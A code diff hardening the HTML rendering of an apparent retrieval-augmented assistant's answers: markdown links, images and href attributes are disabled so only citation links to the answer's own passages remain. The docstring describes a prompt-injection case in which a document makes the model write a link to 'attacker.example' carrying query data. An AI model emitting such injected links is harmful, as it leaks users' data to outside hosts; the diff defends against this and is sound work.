@@ -1,8 +1,10 @@
 """From the model's [n] marks to citations, and from an answer's text to safe HTML.
 
 The model's output is untrusted like the documents it read: markdown is rendered with raw
-HTML disabled and the result is cleaned by nh3 with a short allow-list, so neither the
-model nor a document can put a script, a form or a foreign link on the page.
+HTML, links and images off, and the result is cleaned by nh3 with a short allow-list whose
+only link targets are the answer's own passages, so neither the model nor a document can
+put a script, a form, an image or a link anywhere else on the page (a document telling
+the model to write `[see here](https://attacker.example/?q=…)` gets that text, inert).
 """
 
 from __future__ import annotations
@@ -21,7 +23,10 @@ ALLOWED_TAGS = {
     "p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote",
     "h1", "h2", "h3", "h4", "table", "thead", "tbody", "tr", "th", "td", "a", "span",
 }  # fmt: skip
-ALLOWED_ATTRIBUTES = {"a": {"href", "class", "title"}, "span": {"class"}}
+# href is not here: an answer's links are exactly its passages' (render_answer).
+ALLOWED_ATTRIBUTES = {"a": {"class", "title"}, "span": {"class"}}
+# Markdown that would make a link or fetch something: shown as the text it is.
+_INERT_MARKDOWN = ["link", "image", "autolink", "reference"]
 
 
 def cited_numbers(text: str) -> list[int]:
@@ -88,10 +93,11 @@ def cite(text: str, passages: Sequence[dict[str, Any]]) -> tuple[str, list[dict[
 def render_answer(
     text: str, *, passages: Sequence[dict[str, Any]], link: Callable[[int], str]
 ) -> str:
-    """Sanitised HTML for an answer; each valid [n] becomes a link to its passage."""
+    """Sanitised HTML for an answer; each valid [n] becomes a link to its passage, and
+    nothing else is a link: any URL the text holds stays text, never fetched."""
     from markdown_it import MarkdownIt  # slow: ~45 ms to import, only pages with answers need it
 
-    html = MarkdownIt("commonmark", {"html": False}).render(text)
+    html = MarkdownIt("commonmark", {"html": False}).disable(_INERT_MARKDOWN).render(text)
     valid = {p["n"]: p for p in passages}
 
     def linkify(match: re.Match[str]) -> str:
@@ -111,7 +117,8 @@ def render_answer(
         html,
         tags=ALLOWED_TAGS,
         attributes=ALLOWED_ATTRIBUTES,
-        url_schemes={"http", "https"},
+        tag_attribute_values={"a": {"href": {link(n) for n in valid}}},
+        url_schemes=set(),
         link_rel="noopener noreferrer",
     )
 
